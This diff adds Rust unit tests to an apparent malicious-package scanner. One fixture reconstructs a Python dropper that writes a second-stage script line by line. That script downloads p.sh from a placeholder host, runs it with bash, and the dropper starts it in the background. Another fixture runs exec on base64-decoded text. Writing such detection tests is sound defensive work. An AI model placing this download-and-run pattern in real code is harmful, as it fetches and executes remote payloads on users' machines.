@@ -171,3 +171,49 @@ fn a_thread_started_at_import_reaches_what_it_calls() {
     assert!(rules(&verdict).contains(&"persistence"), "{verdict:#?}");
     assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
 }
+
+#[test]
+fn a_script_written_line_by_line_and_run_is_analysed() {
+    // Reconstruction of the shape of a dropper that writes its second stage with one
+    // `write` per line, then starts it in the background.
+    let verdict = package(
+        "import subprocess\n\
+         def check():\n    with open('/tmp/file.py', 'w') as f:\n        \
+         f.write(\"from urllib import request\\nimport subprocess\\n\")\n        \
+         f.write(\"request.urlretrieve('https://dl.example.invalid/p.sh', '/tmp/p.sh')\\n\")\n        \
+         f.write(\"subprocess.call('bash /tmp/p.sh', shell=True)\\n\")\n    \
+         subprocess.call('python3 /tmp/file.py &', shell=True)\n\
+         check()\n",
+    );
+    assert!(rules(&verdict).contains(&"download-run"), "{verdict:#?}");
+    assert_eq!(verdict.level, VerdictLevel::Malicious, "{verdict:#?}");
+}
+
+#[test]
+fn writing_a_config_file_is_not_a_payload() {
+    let verdict = package(
+        "def save(settings):\n    with open('settings.ini', 'w') as f:\n        \
+         f.write('[server]\\nurl = https://api.example.invalid\\n')\n",
+    );
+    assert_eq!(verdict.level, VerdictLevel::Clean, "{verdict:#?}");
+}
+
+#[test]
+fn a_wheel_script_is_judged_like_an_entry_point() {
+    let verdict = verdict(&[
+        (
+            "fixture-1.0.dist-info/METADATA",
+            "Metadata-Version: 2.1\nName: fixture\nVersion: 1.0\n",
+        ),
+        (
+            "fixture/__init__.py",
+            "import os\nos.system('fixture-cmd')\n",
+        ),
+        (
+            "fixture-1.0.data/scripts/fixture-cmd",
+            "#!python\nimport base64\nexec(base64.b64decode('cHJpbnQoJ2hpJyk='))\n",
+        ),
+    ]);
+    assert!(rules(&verdict).contains(&"exec-decoded"), "{verdict:#?}");
+    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
+}
